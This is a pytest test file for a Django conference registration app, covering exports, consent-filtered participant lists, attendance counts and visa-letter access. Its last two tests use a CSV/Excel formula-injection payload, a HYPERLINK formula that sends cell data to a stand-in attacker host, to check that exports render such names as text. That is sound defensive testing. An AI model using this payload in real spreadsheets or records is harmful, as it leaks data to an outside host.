import csv
import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from registration import personal_data, services
from registration.models import Registration
from tests.factories import EntityFactory, SessionFactory, UserFactory, register

pytestmark = pytest.mark.django_db


@pytest.fixture
def session():
    return SessionFactory(format="hybrid", slug="ieg-2-2025")


def approved(session, entity, officer, **fields):
    return services.approve(register(session, entity, **fields), officer)


def pdf_text(response) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)


def test_csv_export_has_the_chosen_columns(officer_client, session):
    register(session, family_name="Haddad", identity_document_number="P123")

    response = officer_client.get(
        "/sessions/ieg-2-2025/console/export.csv?column=family_name&column=entity"
    )

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["Family name", "Entity"] and rows[1][0] == "Haddad"


def test_identity_numbers_are_left_out_unless_asked(officer_client, session):
    register(session, identity_document_number="P1234567")

    default = officer_client.get("/sessions/ieg-2-2025/console/export.csv").content.decode()
    asked = officer_client.get(
        "/sessions/ieg-2-2025/console/export.csv?column=identity_document_number"
    ).content.decode()

    assert "P1234567" not in default and "P1234567" in asked


def test_excel_export_follows_the_filters(officer_client, session, officer):
    approved(session, EntityFactory(), officer, family_name="Approved")
    register(session, family_name="Pending")

    response = officer_client.get("/sessions/ieg-2-2025/console/export.xlsx?state=approved")

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Approved"]


def test_exports_are_for_officers_only(delegate_client, session):
    register(session)

    assert delegate_client.get("/sessions/ieg-2-2025/console/export.csv").status_code == 403


def test_participants_list_is_in_un_order_and_names_only_those_who_consented(
    officer_client, session, officer
):
    approved(
        session,
        EntityFactory(kind="ngo", name="Penal Reform International"),
        officer,
        family_name="Ngo-Person",
        consents_to_list=True,
    )
    approved(
        session, EntityFactory(name="Zimbabwe"), officer, family_name="Moyo", consents_to_list=True
    )
    approved(
        session, EntityFactory(name="Austria"), officer, family_name="Gruber", consents_to_list=True
    )
    approved(
        session,
        EntityFactory(kind="observer_state", name="Holy See"),
        officer,
        family_name="Rossi",
        consents_to_list=True,
    )
    approved(
        session,
        EntityFactory(name="Brazil"),
        officer,
        family_name="Private",
        consents_to_list=False,
    )
    register(session, EntityFactory(name="Chile"), family_name="Pending", consents_to_list=True)

    text = pdf_text(officer_client.get("/sessions/ieg-2-2025/console/participants.pdf"))

    order = [text.index(name) for name in ("GRUBER", "MOYO", "ROSSI", "NGO-PERSON")]
    assert order == sorted(order)
    assert "PRIVATE" not in text and "PENDING" not in text


def test_participants_list_prints_any_latin_diacritics(officer_client, session, officer):
    approved(
        session,
        EntityFactory(name="Poland"),
        officer,
        given_name="Łucja",
        family_name="Wąsowska",
        consents_to_list=True,
    )

    text = pdf_text(officer_client.get("/sessions/ieg-2-2025/console/participants.pdf"))

    assert "Łucja WĄSOWSKA" in text


def test_attendance_summary_counts_approved_registrations(officer_client, session, officer):
    austria = EntityFactory(name="Austria", regional_group="WESTERN_EUROPE_OTHERS")
    approved(session, austria, officer, gender="female")
    approved(session, austria, officer, gender="male", participation_mode="online")
    approved(session, EntityFactory(kind="ngo"), officer)
    register(session, EntityFactory())

    summary = officer_client.get("/sessions/ieg-2-2025/console/attendance/").context["summary"]

    assert summary["member_states"] == 1 and summary["participants"] == 3
    assert summary["by_mode"] == {"in_person": 2, "online": 1}
    assert summary["by_gender"]["female"] == 1


def test_attendance_summary_query_count_is_fixed(
    officer_client, session, officer, django_assert_num_queries
):
    approved(session, EntityFactory(), officer)
    with django_assert_num_queries(11) as few:
        officer_client.get("/sessions/ieg-2-2025/console/attendance/")
    for _ in range(10):
        approved(session, EntityFactory(), officer)

    with django_assert_num_queries(len(few.captured_queries)):
        officer_client.get("/sessions/ieg-2-2025/console/attendance/")


class TestVisaLetter:
    @pytest.fixture
    def asked(self, session, officer, delegate):
        return approved(
            session,
            EntityFactory(),
            officer,
            email=delegate.email,
            needs_visa_letter=True,
            identity_document_number="P7654321",
        )

    def test_officer_signs_off_and_the_person_downloads_it(self, client, officer, delegate, asked):
        client.force_login(officer)
        client.post(f"/registrations/{asked.pk}/visa-letter/")
        client.force_login(delegate)

        text = pdf_text(client.get(f"/registrations/{asked.pk}/visa-letter/"))

        assert asked.family_name.upper() in text and "P7654321" in text

    def test_not_before_sign_off(self, delegate_client, asked):
        assert delegate_client.get(f"/registrations/{asked.pk}/visa-letter/").status_code == 404

    def test_a_delegate_cannot_sign_off(self, delegate_client, asked):
        delegate_client.post(f"/registrations/{asked.pk}/visa-letter/")

        asked.refresh_from_db()
        assert asked.visa_letter_signed_at is None

    def test_another_user_cannot_read_it(self, client, officer, asked):
        personal_data.sign_visa_letter(asked, officer)
        client.force_login(UserFactory())

        assert client.get(f"/registrations/{asked.pk}/visa-letter/").status_code == 403

    def test_only_for_approved_in_person_who_asked(self, session, officer):
        pending = register(session, needs_visa_letter=True)

        with pytest.raises(services.RegistrationError):
            personal_data.sign_visa_letter(pending, officer)
        assert Registration.objects.get(pk=pending.pk).visa_letter_signed_at is None


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_csv_export_writes_a_formula_in_a_name_as_text(officer_client, session):
    register(session, given_name=FORMULA, function_title="@SUM(A1:A9)")

    response = officer_client.get(
        "/sessions/ieg-2-2025/console/export.csv?column=given_name&column=function_title"
    )

    row = list(csv.reader(io.StringIO(response.content.decode())))[1]
    assert row == ["'" + FORMULA, "'@SUM(A1:A9)"]


def test_excel_export_writes_a_formula_in_a_name_as_text(officer_client, session):
    register(session, given_name=FORMULA)

    response = officer_client.get("/sessions/ieg-2-2025/console/export.xlsx?column=given_name")

    cell = load_workbook(io.BytesIO(response.content)).active["A2"]
    assert (cell.data_type, cell.value) == ("s", FORMULA)
